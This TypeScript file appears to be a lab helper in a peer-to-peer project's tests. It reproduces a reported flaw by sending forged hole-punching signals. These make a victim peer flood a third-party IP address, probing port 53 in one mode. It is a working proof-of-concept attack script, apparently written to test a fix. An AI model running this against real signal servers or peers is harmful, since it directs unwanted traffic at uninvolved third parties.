/**
 * Lab helper, run inside a namespace: the punch flood attacker of issue #8. It
 * registers on the signal server with a raw WebSocket and a fresh identity
 * (no session, no offer, no service asked for) and sends `punch` payloads to
 * VICTIM that name TARGET, a third party's IP, as its own punch address:
 *   easy  the victim is to be the easy side: `start` (role hard), then, once the
 *         victim sent its `easy` step, a `hard` step naming TARGET, which the
 *         victim would spray port by port;
 *   hard  the victim is to be the hard side: `start` (role easy), then an `easy`
 *         step naming TARGET:53, which each of the victim's sockets would probe.
 * PUNCHES punches, one after another, each ended by the victim's `fail` (or
 * WAIT_MS). It sends no datagram itself. Prints JSON lines: `registered`, then
 * `done` with the punches sent, the fails received and the signalling bytes sent.
 * Usage: node punch-attacker.js URL VICTIM TARGET easy|hard PUNCHES
 */
import { randomBytes } from 'node:crypto';
import { WebSocket } from 'ws';
import { Identity } from '../../src/identity/keys.js';
import { PROTOCOL_VERSION, registerChallenge, type PeerInfo, type PunchPayload, type ServerMessage } from '../../src/protocol/messages.js';

const [url, victimName, target, mode, punchesArg] = process.argv.slice(2);
const punches = Number(punchesArg ?? 4);
/** How long one punch may take before the next (the victim's own run gives up after 3 s). */
const WAIT_MS = 8000;
/** Waiting for the victim to show up in the peer list. */
const FIND_MS = 10_000;
if (!url || !victimName || !target || (mode !== 'easy' && mode !== 'hard')) {
  process.stderr.write('usage: punch-attacker URL VICTIM TARGET easy|hard PUNCHES\n');
  process.exit(2);
}

const out = (o: object): void => void process.stdout.write(JSON.stringify(o) + '\n');
const id = Identity.generate();
const name = `mallory-${randomBytes(3).toString('hex')}`;
const ws = new WebSocket(url);
let bytes = 0;
let victim: PeerInfo | undefined;
const fails = new Map<string, () => void>();
let failCount = 0;
const send = (o: object): void => {
  const s = JSON.stringify(o);
  bytes += Buffer.byteLength(s);
  ws.send(s);
};
const signal = (p: PunchPayload): void => send({ type: 'signal', to: victim!.peerId, payload: p });

let found: () => void;
const victimFound = new Promise<void>((r) => (found = r));
ws.on('error', (err) => {
  process.stderr.write(`attacker: ${err.message}\n`);
  process.exit(1);
});
ws.on('message', (d) => {
  const m = JSON.parse(d.toString()) as ServerMessage;
  if (m.type === 'hello') ws.send(JSON.stringify({ type: 'register', v: PROTOCOL_VERSION, name, publicKey: id.publicKey, signature: id.sign(registerChallenge(m.nonce, name)) }));
  else if (m.type === 'registered' || m.type === 'peers') {
    if (m.type === 'registered') {
      out({ event: 'registered', name, peerId: m.peerId });
      // Presence is on demand: ask for the victim (and hear when it comes online).
      send({ type: 'lookup', targets: [victimName] });
      return;
    }
    victim ??= (m.peers ?? []).find((p) => p.name === victimName);
    if (victim) found();
  } else if (m.type === 'lookup') {
    victim ??= m.results.find((r) => r.target === victimName)?.peer;
    if (victim) found();
  } else if (m.type === 'presence' && m.peer.name === victimName && m.event !== 'leave') {
    victim ??= m.peer;
    found();
  } else if (m.type === 'signal' && m.payload.kind === 'punch') {
    // The easy victim's run exists once it has sent its mapping: now name the target.
    if (m.payload.step === 'easy' && mode === 'easy') signal({ kind: 'punch', sessionId: m.payload.sessionId, step: 'hard', address: target });
    if (m.payload.step === 'fail') {
      failCount++;
      fails.get(m.payload.sessionId)?.();
    }
  } else if (m.type === 'error') process.stderr.write(`attacker: server error ${m.code}: ${m.message}\n`);
});

await new Promise<void>((r) => ws.once('open', () => r()));
const findTimer = setTimeout(() => {
  process.stderr.write(`attacker: ${victimName} not online\n`);
  process.exit(1);
}, FIND_MS);
await victimFound;
clearTimeout(findTimer);

for (let i = 0; i < punches; i++) {
  const sessionId = randomBytes(12).toString('base64url');
  const token = randomBytes(16).toString('base64');
  const ended = new Promise<void>((r) => {
    const t = setTimeout(r, WAIT_MS);
    fails.set(sessionId, () => {
      clearTimeout(t);
      r();
    });
  });
  if (mode === 'easy') {
    signal({ kind: 'punch', sessionId, step: 'start', role: 'hard', token });
  } else {
    signal({ kind: 'punch', sessionId, step: 'start', role: 'easy', token });
    signal({ kind: 'punch', sessionId, step: 'easy', address: target, port: 53 });
  }
  await ended;
}
out({ event: 'done', punches, fails: failCount, signalBytes: bytes, datagramsSent: 0 });
ws.close();
process.exit(0);
